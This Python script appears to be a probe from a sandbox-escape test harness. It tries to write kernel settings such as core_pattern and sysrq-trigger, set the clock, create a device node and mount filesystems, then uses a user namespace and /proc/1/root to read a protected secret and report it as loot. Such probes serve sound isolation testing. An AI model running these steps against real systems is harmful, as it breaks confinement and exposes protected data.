"""Asks the kernel for what only an administrator may do."""

import ctypes
import os
import time

from attack_kit import FACTS, loot, ran, read, won

NEW_USER, NEW_MOUNTS = 0x10000000, 0x00020000
SETTINGS = ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger")

ran()
libc = ctypes.CDLL(None, use_errno=True)
for path in (*SETTINGS, "/sys/kernel/mm/ksm/run", "/dev/kmsg", "/proc/self/oom_score_adj"):
    try:
        os.close(os.open(path, os.O_WRONLY))
        if "self" not in path:
            won(f"{path} can be written")
    except OSError:
        pass
try:
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    won("the clock can be set")
except OSError:
    pass
try:
    os.mknod("disk", 0o600 | 0o060000, os.makedev(254, 0))
    won("a device was made")
except OSError:
    pass
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    won("a mount without a namespace of its own")
if os.fork() == 0:
    libc.unshare(NEW_USER | NEW_MOUNTS)
    libc.mount(b"none", b"/", None, 0x44000, None)
    loot(read(FACTS["secret"]))
    loot(read(f"/proc/1/root{FACTS['secret']}"))
    os._exit(0)
os.wait()
